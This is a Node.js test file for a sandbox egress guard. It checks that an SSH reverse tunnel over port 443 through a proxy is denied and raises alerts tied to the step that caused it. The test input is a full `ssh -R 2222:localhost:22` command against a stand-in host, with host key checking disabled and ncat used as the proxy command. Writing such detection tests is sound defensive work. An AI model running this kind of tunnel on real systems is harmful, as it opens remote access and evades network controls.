// `ssh -R` to an outside SSH server on port 443, through the proxy, is cut and alerted on the SSH
// banner, even though the destination's domain is allowed.
import { after, before, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from './guard-harness.js';

let world: GuardWorld;
before(async () => {
  world = await startGuardWorld();
});
after(() => world.close());

it('a reverse tunnel over 443 is blocked and alerted on the banner, tied to its step', async () => {
  const sandbox = await world.backend.create({ allowDomains: ['tunnel.example.test'] });
  const { hostAddress } = sandbox.hostInfo();
  const r = await bash(
    sandbox,
    `ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 ` +
      `-o ProxyCommand='ncat --proxy ${hostAddress}:3128 --proxy-type http %h %p' ` +
      `-N -R 2222:localhost:22 -p 443 tunnel@tunnel.example.test`,
  );
  assert.notEqual(r.exitCode, 0, 'ssh did not get its tunnel');
  const alerts = await waitForAlerts(world, sandbox, (all) => all.some((a) => a.evidence.some((e) => e.kind === 'proxy-connection' && e.protocol === 'ssh')));
  const banner = alerts.find((a) => a.evidence.some((e) => e.kind === 'proxy-connection' && e.protocol === 'ssh'));
  assert.ok(banner, `alert on the SSH banner: ${summary(alerts)}`);
  assert.ok(['T1572', 'T1090'].includes(banner.technique));
  assert.equal(banner.step, r.step);
  const flags = alerts.find((a) => a.evidence.some((e) => e.kind === 'process-start' && (e.argv ?? []).includes('-R')));
  assert.ok(flags, `alert on ssh -R itself: ${summary(alerts)}`);
  await world.guard.settle();
  assert.ok(world.guard.actions(sandbox.id).some((a) => a.action === 'deny-stream' && a.target === 'tunnel.example.test:443'));
  assert.equal(world.fakes.received.ssh, 0, 'no client byte reached the SSH server');
});
